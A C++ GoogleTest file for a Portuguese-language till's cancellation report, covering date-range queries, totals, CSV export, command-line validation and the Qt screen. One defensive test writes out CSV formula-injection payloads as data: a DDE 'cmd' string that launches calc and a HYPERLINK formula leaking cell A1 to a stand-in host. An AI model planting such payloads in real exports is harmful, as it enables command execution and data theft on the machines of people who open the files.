// The cancellation report on a known database, once per engine: the lines of
// the days asked for, the totals by reason and by operator, the CSV and the
// screen; and the command's refusal of a bad date.
#include <QAbstractButton>
#include <QAbstractItemView>
#include <QApplication>
#include <QDir>
#include <QFile>
#include <QFileDialog>
#include <QFileInfo>
#include <QHeaderView>
#include <QLabel>
#include <QLocale>
#include <QPushButton>
#include <QScrollBar>
#include <QTableView>
#include <QTemporaryDir>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include "ColunasRelatorio.h"
#include "ComandoRelatorio.h"
#include "ConsultaCancelamentos.h"
#include "DadosComandaTest.h"
#include "JanelaRelatorio.h"
#include "LocaleTerminal.h"
#include "PastaCaixa.h"
#include "SaidaRelatorio.h"
#include "SaidasTillSupport.h"
#include "TextoQuantidade.h"

using namespace od;

namespace {

QDateTime Em(int dia, int hora, int minuto, int segundo = 0)
{
    return QDateTime(QDate(2026, 12, dia), QTime(hora, minuto, segundo));
}

QStringList Itens(const TRelatorioCancelamentos& r)
{
    QStringList itens;
    for (const TCancelamento& c : r.Linhas)
        itens << c.Item;
    return itens;
}

QStringList Totais(const QList<TTotalCancelamentos>& totais)
{
    QStringList texto;
    for (const TTotalCancelamentos& t : totais)
        texto
            << QStringLiteral("%1|%2|%3|%4").arg(t.Chave).arg(t.Itens).arg(t.QuantidadeMilesimos).arg(t.ValorCentavos);
    return texto;
}

} // namespace

class RelatorioTest : public OpenTabTest {
protected:
    void SetUp() override
    {
        OpenTabTest::SetUp();
        if (IsSkipped() || HasFatalFailure())
            return;
        QLocale::setDefault(QLocale(QLocale::Portuguese, QLocale::Brazil));
        data.Produto({});
        data.Produto({.CDPRODUTO = "P2", .NMPRODUTO = "Suco \"da casa\"; 500ml"});
        // Cancelled from 06/12 to 09/12, through the module's own writes.
        data.Item({.NRPRODCOMVEN = "000001", .VRPRECCOMVEN = 49.90});
        data.Item({.NRPRODCOMVEN = "000002",
                   .CDPRODUTO = "P2",
                   .QTPRODCOMVEN = 3.0,
                   .VRPRECCOMVEN = 7.35,
                   .VRDESCCOMVEN = 1.00});
        data.Item({.NRPRODCOMVEN = "000003", .QTPRODCOMVEN = 0.5, .VRPRECCOMVEN = 39.90});
        data.Item({.NRPRODCOMVEN = "000004"});
        data.Item({.NRPRODCOMVEN = "000005"});
        data.Item({.NRPRODCOMVEN = "000006"}); // never cancelled
        Inteiro("000001", Em(7, 20, 0), "02", "Produto lançado errado", "OPER1", "SUP1");
        // One of three: the split-off line (a new item number) carries the cancellation.
        rdmCancelaProd->Agora = [] { return Em(8, 12, 0); };
        ASSERT_FALSE(setCancelaProd(kFilial, kCaixa, kVenda, kComanda, "000002", QtdeToStr(1), "x", "03",
                                    "Cliente desistiu", "OPER2", "N", "SUP1")
                         .isValid());
        Inteiro("000003", Em(8, 23, 59, 59), "03", "Cliente desistiu", "OPER1", "OPER1");
        Inteiro("000004", Em(9, 0, 0), "03", "Cliente desistiu", "OPER1", "SUP1");
        Inteiro("000005", Em(6, 23, 59, 59), "02", "Produto lançado errado", "OPER2", "SUP1");
        m_parte
            = scalar("SELECT NRPRODCOMVEN FROM ITCOMANDAVEN WHERE CDPRODUTO = 'P2' AND IDSTPRCOMVEN = '6'").toString();
    }
    void TearDown() override
    {
        QLocale::setDefault(QLocale::c());
        OpenTabTest::TearDown();
    }
    void Inteiro(const QString& item, const QDateTime& quando, const QString& grupo, const QString& motivo,
                 const QString& operador, const QString& autorizador)
    {
        rdmCancelaProd->Agora = [quando] { return quando; };
        ASSERT_FALSE(setStatusItemComanda(kFilial, kCaixa, kVenda, kComanda, item, "x", grupo, motivo, operador,
                                          autorizador, "", "N")
                         .isValid());
    }

    QString m_parte;
    QTemporaryDir m_pasta;
};

TEST_P(RelatorioTest, LinesAndTotalsOfTheDaysAskedFor)
{
    const TRelatorioCancelamentos r = ConsultaCancelamentos(QDate(2026, 12, 7), QDate(2026, 12, 8));
    ASSERT_EQ(Itens(r), QStringList({"000001", m_parte, "000003"}));

    const TCancelamento& parte = r.Linhas[1];
    EXPECT_EQ(parte.Momento, Em(8, 12, 0));
    EXPECT_EQ(QStringList({parte.Comanda, parte.DsComanda, parte.Mesa, parte.Produto, parte.NomeProduto, parte.Operador,
                           parte.Autorizador, parte.GrupoMotivo, parte.Motivo}),
              QStringList({kComanda, "CMD_0100", kMesa, "P2", "Suco \"da casa\"; 500ml", "OPER2", "SUP1", "03",
                           "Cliente desistiu"}));
    // 1 x 7,35 less the discount's share cut to 0,33; half a kilo of 39,90.
    EXPECT_EQ(parte.QuantidadeMilesimos, 1000);
    EXPECT_EQ(parte.ValorCentavos, 702);
    EXPECT_EQ(r.Linhas[2].ValorCentavos, 1995);

    EXPECT_EQ(Totais(r.PorMotivo), QStringList({"Cliente desistiu|2|1500|2697", "Produto lançado errado|1|1000|4990"}));
    EXPECT_EQ(Totais(r.PorOperador), QStringList({"OPER1|2|1500|6985", "OPER2|1|1000|702"}));
    EXPECT_EQ(Totais({r.Geral}), QStringList({"Total|3|2500|7687"}));
    EXPECT_TRUE(
        RelatorioEmTexto(r, QLocale()).endsWith("\nTotal geral: 3 cancelamentos, quantidade 2,5, valor 76,87\n"));

    // Either end open; a cancellation at midnight belongs to the day it starts.
    EXPECT_EQ(Itens(ConsultaCancelamentos(QDate(2026, 12, 8), QDate())), QStringList({m_parte, "000003", "000004"}));
    EXPECT_EQ(Itens(ConsultaCancelamentos(QDate(), QDate(2026, 12, 6))), QStringList({"000005"}));
    EXPECT_EQ(ConsultaCancelamentos(QDate(), QDate()).Linhas.size(), 5);
    EXPECT_TRUE(ConsultaCancelamentos(QDate(2026, 12, 10), QDate(2026, 12, 31)).Linhas.isEmpty());

    // A time written by hand, with a blank between day and time, counts the same.
    exec("UPDATE ITCOMANDAVEN SET DTHRPRODCANVEN = '2026-12-08 10:00:00' WHERE NRPRODCOMVEN = '000005'");
    EXPECT_EQ(Itens(ConsultaCancelamentos(QDate(2026, 12, 8), QDate(2026, 12, 8))),
              QStringList({"000005", m_parte, "000003"}));
}

TEST_P(RelatorioTest, CsvAndCommand)
{
    const QString arquivo = m_pasta.filePath("relatorio.csv");
    ASSERT_EQ(ExecutaRelatorio({"--report", "--from", "08/12/2026", "--to", "2026-12-08", "--csv", arquivo}), 0);
    QFile csv(arquivo);
    ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
    const QByteArray bytes = csv.readAll();
    ASSERT_TRUE(bytes.startsWith("\xEF\xBB\xBF"));
    const QStringList linhas = QString::fromUtf8(bytes.mid(3)).split("\r\n");
    ASSERT_EQ(linhas.size(), 4); // header, two lines, the empty text after the last line end
    EXPECT_TRUE(linhas[0].startsWith("Data/hora;Filial;Comanda;"));
    EXPECT_EQ(linhas[1],
              QStringLiteral("08/12/2026 12:00:00;%1;%2;CMD_0100;%3;%4;P2;\"Suco \"\"da casa\"\"; 500ml\";"
                             "1;7,02;OPER2;SUP1;03;Cliente desistiu")
                  .arg(kFilial, kComanda, kMesa, m_parte));
    EXPECT_TRUE(linhas[2].contains(";P1;Filé à parmegiana;0,5;19,95;OPER1;OPER1;03;"));

    // A bad date or option is refused before anything is read or written.
    const QString outro = m_pasta.filePath("outro.csv");
    EXPECT_EQ(ExecutaRelatorio({"--from", "31/02/2026", "--csv", outro}), 2);
    EXPECT_EQ(ExecutaRelatorio({"--from", "09/12/2026", "--to", "08/12/2026", "--csv", outro}), 2);
    EXPECT_EQ(ExecutaRelatorio({"--de", "08/12/2026", "--csv", outro}), 2);
    EXPECT_EQ(ExecutaRelatorio({"--csv", outro, "--to"}), 2);
    EXPECT_FALSE(QFile::exists(outro));
    EXPECT_EQ(LeDataDigitada(" 8/12/2026 "), QDate(2026, 12, 8));
    for (const char* ruim : {"2026-13-01", "12/2026", "amanhã", ""})
        EXPECT_FALSE(LeDataDigitada(ruim).isValid()) << ruim;

    // No cancellation in the period is a report too.
    EXPECT_EQ(ExecutaRelatorio({"--from", "2027-01-01", "--csv", outro}), 0);
    EXPECT_TRUE(QFile::exists(outro));
}

TEST_P(RelatorioTest, Screen)
{
    JanelaRelatorio janela;
    janela.SetPeriodo(QDate(2026, 12, 7), QDate(2026, 12, 8));
    janela.Atualiza();
    const auto* linhas = janela.findChild<QAbstractItemView*>("grdLinhas");
    const auto* motivos = janela.findChild<QAbstractItemView*>("grdMotivos");
    ASSERT_TRUE(linhas && motivos);
    EXPECT_EQ(linhas->model()->rowCount(), 3);
    EXPECT_EQ(linhas->model()->index(1, 4).data().toString(), "Suco \"da casa\"; 500ml");
    EXPECT_EQ(linhas->model()->index(1, 6).data().toString(), "7,02");
    EXPECT_EQ(motivos->model()->index(0, 3).data().toString(), "26,97");
    EXPECT_EQ(janela.findChild<QLabel*>("lblTotalGeral")->text(), "Total: 3 itens, quantidade 2,5, valor 76,87");
    EXPECT_TRUE(janela.ExportaCsv(m_pasta.filePath("tela.csv")));
    EXPECT_EQ(QFile(m_pasta.filePath("tela.csv")).size(), RelatorioEmCsv(janela.Relatorio()).size());
    EXPECT_FALSE(janela.ExportaCsv(m_pasta.filePath("nao-ha/tela.csv")));
    EXPECT_TRUE(janela.Aviso().endsWith("nao-ha não existe")) << janela.Aviso().toStdString();

    janela.SetPeriodo(QDate(2026, 12, 9), QDate(2026, 12, 8));
    janela.Atualiza();
    EXPECT_EQ(linhas->model()->rowCount(), 0);
    EXPECT_TRUE(janela.Aviso().startsWith("O período começa depois de terminar"));

    // A database it cannot reach is said on the screen.
    qputenv("KVP_DATABASE", m_pasta.filePath("nao-existe.db").toUtf8());
    janela.SetPeriodo(QDate(), QDate());
    janela.Atualiza();
    qputenv("KVP_DATABASE", databaseUrl().toUtf8());
    EXPECT_TRUE(janela.Aviso().startsWith("Não foi possível ler os cancelamentos:")) << janela.Aviso().toStdString();
    EXPECT_FALSE(janela.findChild<QAbstractButton*>("sbtExportar")->isEnabled());
}

TEST_P(RelatorioTest, ScreenFitsTheTillAndItsFileDialogSpeaksPortuguese)
{
    const QString longo = QStringLiteral("Cliente pediu a troca do acompanhamento depois que o prato já tinha saído "
                                         "da cozinha e o garçom lançou o item de novo");
    Inteiro("000006", Em(8, 13, 0), "02", longo, "OPER1", "SUP1");
    JanelaRelatorio janela;
    janela.SetPeriodo(QDate(2026, 12, 7), QDate(2026, 12, 8));
    janela.Atualiza();
    // The till's screen, whatever the test platform's.
    janela.resize(1240, 760);
    janela.show();
    QApplication::processEvents();

    const auto* titulo = janela.findChild<QLabel*>("lblTitulo");
    ASSERT_NE(titulo, nullptr);
    EXPECT_EQ(titulo->text(), "Relatório de Cancelamentos");
    for (const char* nome : {"sbtConsultar", "sbtExportar", "sbtFechar"}) {
        const auto* b = janela.findChild<QAbstractButton*>(nome);
        ASSERT_NE(b, nullptr) << nome;
        EXPECT_GE(b->height(), 56) << nome;
        EXPECT_GE(b->width(), 88) << nome;
    }

    // Every column on the screen: the long reason wraps instead of running
    // off behind a scroll bar.
    auto* linhas = janela.findChild<QTableView*>("grdLinhas");
    ASSERT_NE(linhas, nullptr);
    ASSERT_EQ(linhas->model()->rowCount(), 4);
    EXPECT_FALSE(linhas->horizontalScrollBar()->isVisible());
    EXPECT_LE(linhas->horizontalHeader()->length(), linhas->viewport()->width());
    int longa = -1;
    for (int r = 0; r < 4; ++r)
        if (linhas->model()->index(r, ColunasRelatorio::Motivo).data().toString() == longo)
            longa = r;
    ASSERT_GE(longa, 0);
    const int altura = linhas->rowHeight(longa);
    EXPECT_GT(altura, linhas->rowHeight(longa == 0 ? 1 : 0));
    const QRect celula = linhas->visualRect(linhas->model()->index(longa, ColunasRelatorio::Motivo));
    EXPECT_GE(
        celula.height(),
        linhas->fontMetrics().boundingRect(QRect(0, 0, celula.width() - 8, 10000), Qt::TextWordWrap, longo).height());

    // The export's file dialog in the till's language, in the till's folder.
    ASSERT_TRUE(InstalaTraducaoQt(QLocale(QLocale::Portuguese, QLocale::Brazil)))
        << "Qt's Portuguese catalogue (qt6-translations-l10n) is missing";
    QStringList botoes;
    QString pasta;
    {
        AoAbrir<QFileDialog> ao([&](QFileDialog& d) {
            pasta = d.directory().canonicalPath();
            for (const QPushButton* b : d.findChildren<QPushButton*>())
                if (b->isVisible())
                    botoes << b->text().remove(QLatin1Char('&'));
            d.reject();
        });
        janela.findChild<QAbstractButton*>("sbtExportar")->click();
        EXPECT_TRUE(ao.Abriu());
    }
    EXPECT_EQ(pasta, QDir(PastaCaixa()).canonicalPath());
    EXPECT_TRUE(botoes.contains("Salvar")) << botoes.join(',').toStdString();
    EXPECT_TRUE(botoes.contains("Cancelar")) << botoes.join(',').toStdString();
    EXPECT_FALSE(botoes.contains("Save") || botoes.contains("Cancel")) << botoes.join(',').toStdString();
}

// The screen opens on the day of the till's clock, and offers a file named after it.
TEST_P(RelatorioTest, OpensOnTheDayOfTheTillsClock)
{
    const RelogioParado relogio(Em(8, 15, 0));
    JanelaRelatorio janela;
    EXPECT_EQ(Itens(janela.Relatorio()), QStringList({m_parte, "000003"}));
    EXPECT_EQ(janela.Relatorio().De, QDate(2026, 12, 8));
    EXPECT_EQ(janela.Relatorio().Ate, QDate(2026, 12, 8));
    QString sugerido;
    {
        AoAbrir<QFileDialog> ao([&](QFileDialog& d) {
            sugerido = QFileInfo(d.selectedFiles().value(0)).fileName();
            d.reject();
        });
        janela.findChild<QAbstractButton*>("sbtExportar")->click();
        EXPECT_TRUE(ao.Abriu());
    }
    EXPECT_EQ(sugerido, "cancelamentos-20261208.csv");
}

KVP_INSTANTIATE_ENGINES(RelatorioTest);

namespace {

// A text a spreadsheet would run as a formula is written as plain text; the
// numbers and the CSV quoting stay as they were.
TEST(RelatorioCsv, TextoQueSeriaFormulaVaiComoTexto)
{
    TRelatorioCancelamentos r;
    TCancelamento c;
    c.Momento = QDateTime(QDate(2026, 12, 8), QTime(12, 0));
    c.Filial = "0001";
    c.Comanda = "-12";
    c.DsComanda = "@SUM(A1:A9)";
    c.Mesa = "+5";
    c.Item = "000001";
    c.Produto = "P1";
    c.NomeProduto = "=HYPERLINK(\"http://x.example/?\"&A1;\"Clique\")";
    c.QuantidadeMilesimos = 1500;
    c.ValorCentavos = -702;
    c.Operador = "\tOPER1";
    c.Autorizador = "\r=1+1";
    c.GrupoMotivo = "03";
    c.Motivo = "-1+cmd|' /C calc'!A0";
    r.Linhas << c;
    const QStringList linhas = QString::fromUtf8(RelatorioEmCsv(r).mid(3)).split("\r\n");
    ASSERT_EQ(linhas.size(), 3);
    EXPECT_EQ(linhas[1],
              QStringLiteral("08/12/2026 12:00:00;0001;-12;'@SUM(A1:A9);'+5;000001;P1;"
                             "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Clique\"\")\";1,5;-7,02;"
                             "'\tOPER1;\"'\r=1+1\";03;'-1+cmd|' /C calc'!A0"));
}

// A target that is there and is not a regular file (a device, a pipe) is
// refused with exit 1 and left as it was.
TEST(RelatorioCsv, AlvoQueNaoEArquivoComumERecusado)
{
    QTemporaryDir pasta;
    ASSERT_TRUE(pasta.isValid());
    const QString fila = pasta.filePath("fila");
    ASSERT_EQ(::mkfifo(QFile::encodeName(fila).constData(), 0600), 0);
    EXPECT_EQ(ExecutaRelatorio({"--report", "--csv", fila}), 1);
    QString erro;
    EXPECT_FALSE(GravaRelatorioCsv(TRelatorioCancelamentos(), fila, erro));
    EXPECT_TRUE(erro.contains("não é um arquivo comum")) << erro.toStdString();
    struct stat st {};
    ASSERT_EQ(::stat(QFile::encodeName(fila).constData(), &st), 0);
    EXPECT_TRUE(S_ISFIFO(st.st_mode));
    // A regular file is still written.
    EXPECT_TRUE(GravaRelatorioCsv(TRelatorioCancelamentos(), pasta.filePath("certo.csv"), erro)) << erro.toStdString();
}

} // namespace
